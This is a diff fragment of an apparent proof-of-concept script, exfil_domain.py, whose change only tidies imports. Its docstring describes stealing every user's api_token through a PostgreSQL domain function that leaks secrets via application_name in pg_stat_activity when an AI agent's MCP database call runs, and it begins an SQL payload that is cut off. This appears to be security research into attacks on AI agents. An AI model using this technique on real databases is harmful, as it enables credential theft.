@@ -3,11 +3,15 @@ api_token of every user (a table the attacker may not read; the server's SELECT-
 into the server backend's application_name, which pg_stat_activity shows to every role, waits a
 moment, and returns true. The agent's call succeeds as usual; the attacker reads the secrets.
 Usage: exfil_domain.py [reader|postgres]"""
-import asyncio, json, sys, time
+import asyncio
+import json
+import sys
+import time
+
 import asyncpg
-from mcpclient import connect
-from common import DSN, as_role, tool
 import race_domain as rd
+from common import DSN, as_role, tool
+from mcpclient import connect
 
 EXFIL = r"""
 CREATE OR REPLACE FUNCTION atk.dom_exfil(int) RETURNS boolean VOLATILE LANGUAGE plpgsql AS $f$
